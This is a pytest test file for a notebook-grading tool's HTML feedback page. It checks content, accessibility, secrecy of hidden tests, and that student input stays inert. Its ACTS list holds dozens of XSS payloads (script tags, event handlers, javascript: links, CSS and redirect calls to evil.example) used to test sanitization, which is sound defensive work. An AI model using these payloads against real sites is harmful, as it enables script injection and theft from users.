"""The page of feedback: it says what there is to say, and nothing on it acts or tells what is not the student's."""

from __future__ import annotations

import base64
import html.parser
import shutil
import struct
import subprocess
import zlib

import nbformat
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook, new_output

from pefttools.grading import clean
from pefttools.grading.feedback import POLICY, FeedbackExporter, page
from pefttools.grading.nbgrader_config import paths
from pefttools.grading.verdict import Verdict


def png(width=2, height=2):
    def chunk(kind, data):
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    rows = zlib.compress(b"".join(b"\0" + b"\xc0\x40\x20" * width for _ in range(min(height, 500))))
    data = (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">2I5B", width, height, 8, 2, 0, 0, 0)) + chunk(b"IDAT", rows)
    )
    return base64.b64encode(data + chunk(b"IEND", b"")).decode()


def verdict(name="lora-forward", kind="value", **more):
    passed = kind == "passed"
    given = (
        {
            "expected": "[[1.0, 2.0], [3.0, 4.0]]",
            "got": "[[0.5, 1.0], [1.5, 2.0]]",
            "case": "case 2 of 9: r = 4",
            "case_number": 1,
            "mistake": "no-scale",
        }
        if kind == "value"
        else {}
    )
    words = {
        "value": "This is W₀x + BAx: the scale `alpha/r` is missing.\noutput differs",
        "passed": "Equal on 9 cases.",
        "blank": "Not written yet: replace the stub.",
    }
    message = more.pop("message", words.get(kind, kind))
    return Verdict(name, "The forward pass", "02_lora", passed, 3 * passed, 3, kind, message, **{**given, **more})


def marks(name, solution, **more):
    return {
        "nbgrader": {
            "grade_id": name,
            "solution": solution,
            "grade": not solution,
            "schema_version": 3,
            "locked": not solution,
            "task": False,
            **more,
        }
    }


def judged(verdicts=(), source="def lora_forward(x):\n    return x", outputs=(), comment=None, score=None, **record):
    cells = [
        new_markdown_cell("[![badge](https://colab.example/x.svg)](https://colab.example)\n\n# 02 · LoRA\n\nText."),
        new_code_cell("SETUP_SECRET = 1", outputs=[new_output("stream", text="SETUP OUTPUT")]),
        new_markdown_cell("## The product of two thin matrices"),
    ]
    for one in verdicts or (verdict(),):
        cells += [
            new_markdown_cell(
                f"### Exercise · {one.title} · ●○○ · 5 min · 3 points\n\nWrite it.", id=f"about-{one.exercise}"
            ),
            new_code_cell(source, metadata=marks(one.exercise, True, comment=comment), outputs=list(outputs)),
            new_code_cell(
                f'check("{one.exercise}", f)  # HIDDEN TEST',
                metadata=marks(f"check-{one.exercise}", False, points=3, score=float(one) if score is None else score),
                outputs=[new_output("execute_result", {"text/plain": repr(one), "text/html": one.html})],
            ),
        ]
    notebook = new_notebook(cells=cells)
    notebook.metadata["pefttools"] = {
        "seed": 4242424242,
        "sandbox": True,
        "limits": [],
        "seconds": {"whole": 1.0},
        **record,
    }
    nbformat.validate(notebook)
    return notebook


ABOUT = {
    "student": "alice",
    "assignment": "02_lora",
    "notebook": "lora",
    "score": 0.0,
    "max_score": 3.0,
    "late_penalty": 0,
}


class Reader(html.parser.HTMLParser):
    """What a browser would see: tags with attributes, and the text between them."""

    def __init__(self, text):
        super().__init__()
        self.tags, self.text = [], ""
        self.feed(text)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))

    def handle_data(self, data):
        self.text += data


OURS = {
    "html",
    "head",
    "meta",
    "title",
    "style",
    "body",
    "header",
    "main",
    "section",
    "aside",
    "h1",
    "h2",
    "h3",
    "p",
    "strong",
    "em",
    "span",
    "table",
    "caption",
    "thead",
    "tbody",
    "tr",
    "th",
    "td",
    "a",
    "div",
    "pre",
    "code",
    "img",
    "ul",
    "ol",
    "li",
    "details",
    "summary",
    "br",
    "hr",
    "del",
    "blockquote",
    "h4",
    "h5",
    "h6",
    "b",
    "i",
    "u",
    "s",
    "sub",
    "sup",
    "kbd",
    "dl",
    "dt",
    "dd",
}


def inert(text):
    """Nothing on this page acts or asks for anything; returns what it says."""
    read = Reader(text)
    for tag, attributes in read.tags:
        assert tag in OURS, tag
        for name, value in attributes.items():
            assert not name.startswith("on"), (tag, name)
            assert name in (
                "lang",
                "charset",
                "http-equiv",
                "content",
                "name",
                "class",
                "id",
                "href",
                "src",
                "alt",
                "style",
                "scope",
                "open",
                "tabindex",
                "aria-label",
                "aria-labelledby",
                "start",
            ), (tag, name)
            if name == "href":
                assert tag == "a" and value.startswith("#part-")
            if name == "src":
                assert tag == "img" and value.startswith("data:image/png;base64,")
            if name == "style":
                assert not any(word in value.lower() for word in ("url", "expression", "import", "position", "\\", "@"))
    metas = [attributes for tag, attributes in read.tags if tag == "meta" and "http-equiv" in attributes]
    assert metas == [{"http-equiv": "Content-Security-Policy", "content": POLICY}]
    assert [tag for tag, _ in read.tags].count("style") == 1
    assert [tag for tag, _ in read.tags].index("meta") < [tag for tag, _ in read.tags].index("style")
    return read.text


# ------------------------------------------------------------------------------------------ what it says


def test_it_says_what_was_expected_what_came_and_which_mistake_it_looks_like():
    text = inert(
        page(
            judged(
                comment="See me on *Monday*.",
                limits=[{"cell": "lora-forward", "limit": "cpu", "words": "ran too long"}],
            ),
            ABOUT,
        )
    )
    for words in (
        "02 · LoRA",
        "alice",
        "0 of 3 points",
        "The forward pass",
        "✗ Not yet",
        "expected",
        "[[1.0, 2.0], [3.0, 4.0]]",
        "got",
        "[[0.5, 1.0], [1.5, 2.0]]",
        "the scale alpha/r is missing",
        "The product of two thin matrices",
        "def lora_forward",
        "See me on Monday.",
        "lora-forward: ran too long",
        "Limits that were reached",
        "Summary",
    ):
        assert words in text, words


def test_repairs_are_told_from_the_metadata_or_from_the_cell_on_top():
    said = "The check cell was missing and is put back (lora-forward)."
    assert said in inert(page(judged(repairs=[said]), ABOUT))
    notebook = judged()
    notebook.cells.insert(
        0, new_markdown_cell(f"**Before grading, this hand-in was repaired:**\n\n- {said}\n- Two.", id="repairs")
    )
    text = inert(page(notebook, ABOUT))
    assert said in text and "Two." in text and "02 · LoRA" in text


def test_no_sandbox_is_said():
    assert "--unsafe-no-sandbox" in inert(page(judged(sandbox=False), ABOUT))
    assert "--unsafe-no-sandbox" not in inert(page(judged(), ABOUT))


def test_words_and_marks_stand_beside_colours():
    verdicts = [verdict("a", "passed"), verdict("b"), verdict("c", "blank")]
    text = inert(page(judged(verdicts), {**ABOUT, "score": 3.0, "max_score": 9.0}))
    for words in ("✓ Passed", "✗ Not yet", "○ Not written", "3 of 9 points"):
        assert words in text
    assert "◐ In part" in inert(page(judged(score=1.5), ABOUT)) and "1.5 of 3" in inert(page(judged(score=1.5), ABOUT))


def test_points_are_the_gradebooks_also_after_a_grader_changed_them():
    text = inert(page(judged(score=3.0), {**ABOUT, "score": 2.0, "late_penalty": 1}))
    assert "2 of 3 points after 1 points off for being late" in text and "✓ Passed" in text


def test_a_page_is_one_document_with_language_title_headings_and_labels():
    read = Reader(page(judged(outputs=[new_output("display_data", {"image/png": png()})]), ABOUT))
    tags = [tag for tag, _ in read.tags]
    assert (
        dict(read.tags)["html"] == {"lang": "en"}
        and tags.count("h1") == 1
        and tags.count("main") == 1
        and tags.count("title") == 1
    )
    levels = [int(tag[1]) for tag in tags if tag in ("h1", "h2", "h3")]
    assert all(after <= before + 1 for before, after in zip(levels, levels[1:], strict=False))
    assert all(attributes.get("alt") for tag, attributes in read.tags if tag == "img")
    assert all("scope" in attributes for tag, attributes in read.tags if tag == "th")
    ids = [attributes["id"] for _, attributes in read.tags if "id" in attributes]
    assert len(ids) == len(set(ids)) and all(a["href"][1:] in ids for t, a in read.tags if t == "a")


def test_contrast_of_every_text_colour_on_white_and_on_the_notes():
    def luminance(colour):
        colour = "".join(c * 2 for c in colour) if len(colour) == 3 else colour
        parts = [int(colour[n : n + 2], 16) / 255 for n in (0, 2, 4)]
        parts = [c / 12.92 if c <= 0.03928 else ((c + 0.055) / 1.055) ** 2.4 for c in parts]
        return 0.2126 * parts[0] + 0.7152 * parts[1] + 0.0722 * parts[2]

    for colour in ("1a1a1a", "555", "1b5e20", "a51515", "7a4a00", "0b4f9e"):
        for ground in ("fff", "fff8ec", "f4f4f4"):
            assert (luminance(ground) + 0.05) / (luminance(colour) + 0.05) >= 4.5, (colour, ground)
        assert f"#{colour}" in page(judged(), ABOUT)


# ------------------------------------------------------------------------------------------ what it keeps to itself


def test_hidden_tests_the_seed_and_other_cells_are_not_told():
    notebook = judged()
    hidden = new_code_cell(
        "### BEGIN HIDDEN TESTS\nassert f(3) == 42, 'SECRET MESSAGE'\n### END HIDDEN TESTS",
        metadata=marks("test-f", False, points=2, score=0.0),
    )
    hidden.outputs = [
        new_output(
            "error", ename="AssertionError", evalue="SECRET MESSAGE", traceback=["assert f(3) == 42, 'SECRET MESSAGE'"]
        ),
        new_output("stream", text="SECRET MESSAGE"),
    ]
    notebook.cells.append(hidden)
    text = page(notebook, ABOUT)
    assert "The test stopped with AssertionError." in inert(text)
    for secret in ("SECRET", "HIDDEN", "== 42", "SETUP", "4242424242", "colab.example"):
        assert secret not in text


# ------------------------------------------------------------------------------------------ what acts

ACTS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<iframe srcdoc='<script>1</script>'></iframe>",
    "<object data='data:text/html,x'></object>",
    "<embed src=//evil.example>",
    "<link rel=stylesheet href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example>",
    "<form action=//evil.example><input name=a><button>x</button></form>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>1</script>'>x</a>",
    "<style>@import '//evil.example'; body{display:none}</style>",
    "<div style='background:url(//evil.example)'>x</div>",
    "<div style='position:fixed;inset:0'>x</div>",
    "<div style='background:\\75rl(//evil.example)'>x</div>",
    "</pre></code></section><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "--><script>1</script><!--",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>1</script></template>",
    "<details open ontoggle=alert(1)>x",
    "<x-y onclick=1>",
    "<video src=//evil.example autoplay>",
    "'\"><script>1</script>",
    "&lt;script&gt;",
    "<textarea></textarea><script>1</script>",
    "<body onload=alert(1)>",
    "<html onmouseover=1>",
    "[x](javascript:alert(1))",
    "![x](http://evil.example/x.png)",
    "<http://evil.example>",
]


@pytest.mark.parametrize("attack", ACTS)
def test_wherever_a_student_writes_it_it_is_only_text(attack):
    outputs = [
        new_output("stream", text=attack),
        new_output("execute_result", {"text/plain": attack, "text/html": attack, "application/javascript": attack}),
        new_output("display_data", {"text/html": attack, "image/svg+xml": attack}),
        new_output("display_data", {"image/png": attack}),
        new_output("display_data", {"image/png": base64.b64encode(attack.encode()).decode()}),
        new_output("error", ename=attack, evalue=attack, traceback=[attack]),
        new_output("error", ename=attack, evalue=attack, traceback=[]),
    ]
    one = verdict(printed=attack, got=attack, message=attack)
    notebook = judged(
        [one],
        f"# {attack}",
        outputs,
        comment=attack,
        repairs=[attack],
        limits=[{"cell": attack, "words": attack}, attack],
    )
    text_cell = new_markdown_cell(
        attack, metadata=marks("essay", True, grade=True, points=2, score=1.0, comment=attack)
    )
    foreign = new_code_cell("x", metadata=marks(attack, False, points=1, score=0.0))
    foreign.outputs = [
        new_output("execute_result", {"text/plain": "1", "text/html": attack}),
        new_output("error", ename=attack, evalue="", traceback=[]),
    ]
    notebook.cells += [text_cell, foreign]
    text = page(notebook, {**ABOUT, "student": attack, "assignment": attack})
    said = inert(text)
    assert attack[:12] in said  # told as text: a student sees what was written
    lowered = text.lower()
    assert (
        "<script" not in lowered
        and "<iframe" not in lowered
        and "<svg" not in lowered
        and 'javascript:alert(1)"' not in lowered
    )


@settings(max_examples=150, deadline=None)
@given(text=st.text(alphabet=st.sampled_from("<>/\"'=&;:-! abcsriptonxlduyegmf#x\n`*_[]()\\"), max_size=300))
def test_any_text_at_all_stays_text(text):
    notebook = judged([verdict(got=text, printed=text)], text, [new_output("stream", text=text)], comment=text)
    notebook.cells.append(new_markdown_cell(text, metadata=marks("essay", True, grade=True, points=1, score=0.0)))
    inert(page(notebook, ABOUT))


def test_text_is_free_of_terminal_codes_and_turned_directions():
    assert clean.text("\x1b[31mred\x1b[0m\x1b]8;;http://evil\x07link\x00 \u202egnp.exe\ud800") == "redlink gnp.exe?"
    assert clean.text(["a", "b", 3]) == "ab" and clean.text(None) == ""


def test_endless_things_are_cut(monkeypatch):
    outputs = [new_output("stream", text="x" * 10**6) for _ in range(100)]
    text = page(judged(source="y" * 10**6, outputs=outputs, comment="z" * 10**6), ABOUT)
    assert len(text) < 2_000_000 and "characters left out" in text
    pictures = [new_output("display_data", {"image/png": png(500, 500)}) for _ in range(3)]
    assert page(judged(outputs=pictures), ABOUT).count("<img") == 3
    monkeypatch.setattr("pefttools.grading.feedback.PICTURES", len(png(500, 500)) + 1)
    assert page(judged(outputs=pictures), ABOUT).count("<img") == 1


@pytest.mark.parametrize(
    "data", [png(60_000, 60_000), "####", "", base64.b64encode(b"\x89PNG\r\n\x1a\n" + b"0" * 40).decode(), 3, None]
)
def test_pictures_that_are_none_or_too_large_are_not_shown(data):
    assert "<img" not in clean.picture(data, "x")


def test_a_verdicts_box_keeps_its_looks():
    made = clean.markup(verdict().html)
    assert "border-left:5px solid rgb(198" in made and "display:flex" in made
    assert 'open="open"><summary>' in clean.markup(verdict(printed="p").html)


# ------------------------------------------------------------------------------------------ through nbgrader


def test_as_an_exporter_of_nbconvert(tmp_path):
    nbformat.write(judged(), tmp_path / "lora.ipynb")
    made, resources = FeedbackExporter().from_filename(str(tmp_path / "lora.ipynb"), resources={"nbgrader": ABOUT})
    assert resources["output_extension"] == ".html" and "0 of 3 points" in inert(made)


@pytest.mark.nbgrader
def test_nbgraders_own_command_writes_this_page(tmp_path, monkeypatch):
    from nbgrader.api import Gradebook
    from nbgrader.converters import GenerateFeedback
    from nbgrader.coursedir import CourseDirectory
    from traitlets.config import Config

    for name, value in paths().items():
        monkeypatch.setenv(name, value)
    url = f"sqlite:///{tmp_path / 'gradebook.db'}"
    with Gradebook(url) as book:
        book.add_assignment("02_lora")
        book.add_notebook("lora", "02_lora")
        book.add_grade_cell("check-lora-forward", "lora", "02_lora", max_score=3, cell_type="code")
        book.add_solution_cell("lora-forward", "lora", "02_lora")
        book.add_student("alice")
        book.add_submission("02_lora", "alice")
        book.find_grade("check-lora-forward", "lora", "02_lora", "alice").manual_score = 2
        book.find_comment("lora-forward", "lora", "02_lora", "alice").manual_comment = "Nearly."
        book.db.commit()
    folder = tmp_path / "autograded" / "alice" / "02_lora"
    folder.mkdir(parents=True)
    nbformat.write(judged(), folder / "lora.ipynb")
    config = Config()
    config.CourseDirectory.root, config.CourseDirectory.db_url = str(tmp_path), url
    config.GenerateFeedback.exporter_class = "pefttools.grading.feedback.FeedbackExporter"
    course = CourseDirectory(config=config)
    course.assignment_id, course.student_id = "02_lora", "alice"
    GenerateFeedback(coursedir=course, config=config).start()
    text = inert((tmp_path / "feedback" / "alice" / "02_lora" / "lora.html").read_text())
    assert "2 of 3 points" in text and "Nearly." in text and "◐ In part" in text


@pytest.mark.browser
@pytest.mark.skipif(not (shutil.which("chromium") or shutil.which("google-chrome")), reason="no Chromium here")
def test_a_browser_runs_nothing_of_it(tmp_path):
    attack = "<script>document.title='RUN'</script><img src=x onerror=\"document.title='RUN'\">"
    notebook = judged([verdict(got=attack)], attack, [new_output("stream", text=attack)], comment=attack)
    (tmp_path / "page.html").write_text(page(notebook, ABOUT), encoding="utf-8")
    browser = shutil.which("chromium") or shutil.which("google-chrome")
    done = subprocess.run(
        [
            browser,
            "--headless",
            "--no-sandbox",
            "--disable-gpu",
            f"--user-data-dir={tmp_path / 'profile'}",
            "--dump-dom",
            (tmp_path / "page.html").as_uri(),
        ],
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert "<title>Feedback · 02 · LoRA · alice</title>" in done.stdout
